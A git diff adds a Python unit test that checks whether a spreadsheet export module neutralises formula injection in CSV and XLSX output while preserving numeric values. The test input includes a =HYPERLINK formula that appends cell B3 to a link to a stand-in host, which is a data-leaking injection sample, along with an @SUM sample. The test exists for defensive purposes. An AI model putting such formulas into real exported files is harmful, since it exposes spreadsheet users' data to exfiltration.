@@ -65,3 +65,27 @@ def test_draw_gives_every_candidate_a_chance(k):
     for n in range(300):
         seen.update(draw.sample(draw.derive_seed(str(n), "d"), ids, k))
     assert seen == set(ids)
+
+
+def test_spreadsheet_neutralises_text_and_keeps_numbers():
+    import io
+    from decimal import Decimal
+
+    from openpyxl import load_workbook
+
+    from madoguchi.core import spreadsheet
+
+    row = ["=HYPERLINK(\"http://x\"&B3,\"詳細\")", -3000, "-3000", Decimal("-1.5"), "-x", "@SUM(A1)", "普通の文字", None, 0]
+    assert spreadsheet.csv_row(row) == ["'=HYPERLINK(\"http://x\"&B3,\"詳細\")", "-3000", "-3000", "-1.5", "'-x", "'@SUM(A1)", "普通の文字", "", "0"]
+    for write_only in (False, True):
+        book = spreadsheet.workbook(write_only=write_only)
+        sheet = book.create_sheet("s") if write_only else book.active
+        spreadsheet.append(sheet, row)
+        buf = io.BytesIO()
+        book.save(buf)
+        cells = list(load_workbook(io.BytesIO(buf.getvalue())).worksheets[-1].iter_rows(values_only=True))[0]
+        assert cells[0].startswith("=HYPERLINK")  # stored as text, not a formula
+        assert cells[1] == -3000 and cells[3] == -1.5
+    buf = io.StringIO()
+    spreadsheet.csv_writer(buf).writerow(row[:2])
+    assert buf.getvalue() == "'=HYPERLINK(\"http://x\"&B3,\"詳細\")\",-3000\r\n".replace("'=HYPERLINK(\"http://x\"&B3,\"詳細\")\"", "\"'=HYPERLINK(\"\"http://x\"\"&B3,\"\"詳細\"\")\"")
